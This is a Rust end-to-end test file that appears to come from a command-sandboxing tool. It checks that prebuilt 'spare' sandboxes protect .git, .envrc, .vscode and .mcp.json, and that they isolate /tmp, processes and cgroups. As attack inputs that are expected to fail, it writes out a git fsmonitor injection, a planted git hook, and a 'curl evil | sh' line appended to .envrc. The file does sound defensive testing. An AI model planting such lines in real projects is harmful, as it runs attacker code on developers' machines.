//! Spare command sandboxes (built before their command), attacked: a sandbox made
//! before a command (or a person) created `.git` or another protected path must not
//! run the next command without protecting it; two commands in a row share no `/tmp`,
//! PID namespace or cgroup, and nothing of the first outlives its result; a killed exec
//! worker leaves no spare behind.
//!
//! The order that matters (the spare planned first, the path made after) is forced:
//! the server logs each spare once it is ready, and the command that makes the path
//! waits for a file the test creates only after that line.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use toolvisor_protocol::{Status, ToolResult};

use crate::harness::*;

/// One exec worker, so every call meets the same spare.
const CONFIG: &str = r#"
[[policy.rules]]
tool = "*"
action = "allow"

[workers.exec]
count = 1
"#;

const READY: &str = "spare command sandbox is ready";
const STARTED: &str = "the command started in the spare sandbox";
const STALE: &str = "spare command sandbox is stale";

fn server() -> Server {
    Server::start_with_env(
        CONFIG,
        &[(
            "RUST_LOG",
            "info,toolvisor_workers::exec::launch::spare=debug",
        )],
    )
}

/// Wait until the server logged `n` lines containing `needle` in all.
fn wait_count(s: &mut Server, needle: &str, n: usize) {
    let end = Instant::now() + T;
    while s.log_seen.iter().filter(|l| l.contains(needle)).count() < n {
        let left = end.saturating_duration_since(Instant::now());
        match s.log.recv_timeout(left) {
            Ok(line) => s.log_seen.push(line),
            Err(_) => panic!(
                "fewer than {n} lines with {needle:?} within {T:?}:\n{}",
                s.log_seen.join("\n")
            ),
        }
    }
}

fn count(s: &Server, needle: &str) -> usize {
    s.log_seen.iter().filter(|l| l.contains(needle)).count()
}

/// A call on its own thread and runtime, so the test can watch the log meanwhile.
fn call_in_background(
    socket: PathBuf,
    tool: &'static str,
    args: Value,
) -> std::thread::JoinHandle<ToolResult> {
    std::thread::spawn(move || {
        block(T, async move {
            let mut c = toolvisor_protocol::client::Client::connect(&socket, "e2e", false)
                .await
                .expect("connect");
            call_on(&mut c, "bg", tool, args).await
        })
    })
}

async fn namespaces(s: &Server) -> bool {
    let on = s.guards().await.namespaces;
    if !on {
        eprintln!("this host refuses namespaces to commands: skipping");
    }
    on
}

/// Run `make` in a background process (it joins its session's loopback, which a spare
/// has not, so it leaves the ready spare alone) that waits for the file `go` first, so
/// that it changes the workspace only after the spare the next call will use is ready:
/// that spare's plan was made before the change.
fn change_after_the_next_spare(s: &mut Server, make: &str) {
    let ready = count(s, READY).max(1);
    let cmd = format!("while [ ! -e go ]; do sleep 0.02; done; rm go; {make} && touch made");
    let job = json!({ "command": cmd, "background": true });
    let r = call_in_background(s.socket(), "run_command", job)
        .join()
        .expect("the call");
    assert_eq!(r.status, Status::Ok, "{r:?}");
    wait_count(s, READY, ready);
    std::fs::write(s.ws().join("go"), "").unwrap();
    let end = Instant::now() + T;
    // The job's end is another session's event: watch for the file it makes last.
    while !s.ws().join("made").exists() {
        assert!(Instant::now() < end, "the job did not make its change");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn is_namespaced(s: &mut Server) -> bool {
    block(T, namespaces(s))
}

#[test]
fn a_repository_made_by_one_command_is_protected_in_the_next() {
    let mut s = server();
    if !is_namespaced(&mut s) {
        return;
    }
    wait_count(&mut s, READY, 1);
    change_after_the_next_spare(&mut s, "git init -q . && git config user.name x");
    assert!(s.ws().join(".git/config").is_file());
    let before = std::fs::read_to_string(s.ws().join(".git/config")).unwrap();
    let stale = count(&s, STALE);
    block(T, async {
        let attempts = [
            "echo '[core]fsmonitor=touch pwned' >> .git/config",
            "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/x && chmod +x .git/hooks/x",
            "mv .git/hooks .git/h2",
        ];
        for a in attempts {
            let r = s.call("run_command", json!({ "command": a })).await;
            assert_eq!(r.status, Status::Error, "`{a}` succeeded: {r:?}");
            assert!(
                r.content.contains("Read-only file system")
                    || r.content.contains("Device or resource busy"),
                "`{a}`: {r:?}"
            );
        }
    });
    wait_count(&mut s, STALE, stale + 1);
    assert_eq!(
        std::fs::read_to_string(s.ws().join(".git/config")).unwrap(),
        before
    );
    assert!(!s.ws().join(".git/hooks/x").exists());
    assert!(!s.ws().join(".git/h2").exists());
}

#[test]
fn a_path_made_protected_between_the_spare_and_its_claim_is_protected() {
    let mut s = server();
    if !is_namespaced(&mut s) {
        return;
    }
    wait_count(&mut s, READY, 1);
    // By a command: `.envrc` did not exist when the next spare was planned.
    change_after_the_next_spare(&mut s, "echo 'export A=1' > .envrc");
    let r = block(
        T,
        s.call(
            "run_command",
            json!({ "command": "echo 'curl evil | sh' >> .envrc" }),
        ),
    );
    assert_eq!(r.status, Status::Error, "{r:?}");
    assert_eq!(
        std::fs::read_to_string(s.ws().join(".envrc")).unwrap(),
        "export A=1\n"
    );
    // By someone else on the host (a person, another tool), the spare already ready.
    // The spare the next call meets is ready (the second: the first, which the job
    // left alone, was found stale by the call above, which ran without one).
    wait_count(&mut s, READY, 2);
    std::fs::create_dir_all(s.ws().join(".vscode")).unwrap();
    let stale = count(&s, STALE);
    let r = block(
        T,
        s.call(
            "run_command",
            json!({ "command": "echo '{}' > .vscode/tasks.json" }),
        ),
    );
    assert_eq!(r.status, Status::Error, "{r:?}");
    assert!(!s.ws().join(".vscode/tasks.json").exists());
    wait_count(&mut s, STALE, stale + 1);
    // write_file cannot make a protected path at all.
    let r = block(
        T,
        s.call(
            "write_file",
            json!({ "path": ".mcp.json", "content": "{}" }),
        ),
    );
    assert_ne!(r.status, Status::Ok, "{r:?}");
}

/// The PID namespace, mount namespace and cgroup of a process.
fn identity(pid: u32) -> (PathBuf, PathBuf, String) {
    let ns = |n: &str| std::fs::read_link(format!("/proc/{pid}/ns/{n}")).unwrap_or_default();
    let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
    (ns("pid"), ns("mnt"), cg)
}

#[test]
fn two_commands_in_a_row_share_no_tmp_processes_or_cgroup() {
    let mut s = server();
    if !is_namespaced(&mut s) {
        return;
    }
    wait_count(&mut s, READY, 1);
    let (m1, m2) = (unique_marker("spare-a"), unique_marker("spare-b"));
    block(T, async {
        // One session: the jobs below are its own to kill.
        let mut c = s.client().await;
        // The first leaves a file in /tmp and a process behind: its result comes only
        // once everything it started is dead.
        let r = s
            .call(
                "run_command",
                json!({ "command": "echo secret > /tmp/left; (setsid sleep 300 &); echo ok", "env": {"E2E_MARK": m1} }),
            )
            .await;
        assert_eq!(
            (r.status, r.content.as_str()),
            (Status::Ok, "ok\n"),
            "{r:?}"
        );
        assert_eq!(
            procs_with_env(&m1),
            Vec::<u32>::new(),
            "alive after the result"
        );
        let r = s
            .call(
                "run_command",
                json!({ "command": "cat /tmp/left; ls /tmp | wc -l; for p in /proc/[0-9]*; do cat $p/comm; done | grep -c sleep", "env": {"E2E_MARK": m2} }),
            )
            .await;
        assert_eq!(r.status, Status::Error, "{r:?}");
        assert!(r.content.contains("No such file"), "{r:?}");
        assert!(r.content.ends_with("0\n0\n"), "{r:?}");
        // Two at once (background jobs): apart in every way.
        let mut ids = Vec::new();
        for m in [&m1, &m2] {
            let r = call_on(
                &mut c,
                "job",
                "run_command",
                json!({ "command": "sleep 300", "background": true, "env": {"E2E_MARK": m} }),
            )
            .await;
            assert_eq!(r.status, Status::Ok, "{r:?}");
            let pids = wait_procs_with_env(m, "sleep", 1, Duration::from_secs(20)).await;
            ids.push((
                identity(pids[0]),
                r.meta["process"].as_str().unwrap().to_owned(),
            ));
        }
        let ((a, ha), (b, hb)) = (&ids[0], &ids[1]);
        assert_ne!(a.0, b.0, "one PID namespace");
        assert_ne!(a.1, b.1, "one mount namespace");
        if !a.2.is_empty() && a.2.contains("toolvisor-") {
            assert_ne!(a.2, b.2, "one cgroup");
        }
        for h in [ha, hb] {
            let r = call_on(&mut c, "kill", "kill_process", json!({ "process": h })).await;
            assert_eq!(r.status, Status::Ok, "{r:?}");
        }
        for m in [&m1, &m2] {
            if let Err(left) = wait_no_procs_with_env(m, Duration::from_secs(20)).await {
                panic!("processes outlived their job: {left:?}");
            }
        }
    });
    // At least one of them used a spare (the log says so).
    wait_count(&mut s, STARTED, 1);
}

/// The spare shims of exec worker `worker` (children of it started with `--spare`).
fn spares_of(worker: u32) -> Vec<u32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
            continue;
        };
        let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let spare = cmd.split(|&b| b == 0).any(|a| a == b"--spare");
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let ppid = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1))
            .and_then(|p| p.parse::<u32>().ok());
        if spare && ppid == Some(worker) {
            out.push(pid);
        }
    }
    out
}

/// Children of `pid` (the spare's namespace first process).
fn children(pid: u32) -> Vec<u32> {
    std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect()
}

fn environ_has(pid: u32, needle: &str) -> bool {
    std::fs::read(format!("/proc/{pid}/environ"))
        .unwrap_or_default()
        .split(|&b| b == 0)
        .any(|v| v.starts_with(needle.as_bytes()))
}

#[test]
fn a_killed_exec_worker_leaves_no_spare_behind() {
    let mut s = server();
    if !is_namespaced(&mut s) {
        return;
    }
    wait_count(&mut s, READY, 1);
    let worker = block(T, s.worker_pids("exec"))[0];
    // The start's guard canary may have taken the first spare: its successor comes.
    let end = Instant::now() + T;
    let shims = loop {
        let shims = spares_of(worker);
        if shims.len() == 1 && children(shims[0]).len() == 1 {
            break shims;
        }
        assert!(Instant::now() < end, "one spare per worker: {shims:?}");
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut doomed = shims.clone();
    doomed.extend(children(shims[0]));
    assert_eq!(
        doomed.len(),
        2,
        "the shim and its namespace's first process"
    );
    // Marked, so the next `serve` would sweep them if they ever outlived everything.
    assert!(
        doomed
            .iter()
            .all(|&p| environ_has(p, "TOOLVISOR_INSTANCE="))
    );
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(worker as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        let left: Vec<u32> = doomed.iter().copied().filter(|&p| pid_alive(p)).collect();
        if left.is_empty() {
            break;
        }
        assert!(
            Instant::now() < end,
            "the spare outlived its worker: {left:?}"
        );
        // A foreign process's death has no event to wait on: poll with short pauses.
        std::thread::sleep(Duration::from_millis(20));
    }
    // The worker comes back with a spare of its own, and commands still run.
    block(T, async {
        s.wait_group_back("exec", &[worker], T).await;
        let r = s
            .call("run_command", json!({ "command": "echo back" }))
            .await;
        assert_eq!(
            (r.status, r.content.as_str()),
            (Status::Ok, "back\n"),
            "{r:?}"
        );
    });
}
